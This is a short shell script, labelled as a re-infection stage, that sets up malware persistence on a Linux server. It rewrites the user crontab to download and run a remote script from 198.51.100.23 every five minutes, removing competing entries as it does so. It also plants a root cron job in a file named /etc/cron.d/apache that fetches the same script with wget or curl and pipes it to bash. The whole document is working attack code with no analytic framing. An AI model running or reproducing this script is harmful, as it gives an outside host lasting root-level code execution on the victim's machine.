#!/bin/sh
# re-infection: fetch and run the stage-1 every 5 minutes
(crontab -l 2>/dev/null | grep -v 'pastebin\|198.51.100' ; echo "*/5 * * * * curl -fsSL http://198.51.100.23/cr.sh | sh > /dev/null 2>&1") | crontab -
echo "*/10 * * * * root (wget -q -O- http://198.51.100.23/cr.sh || curl -fsSL http://198.51.100.23/cr.sh) | bash" > /etc/cron.d/apache
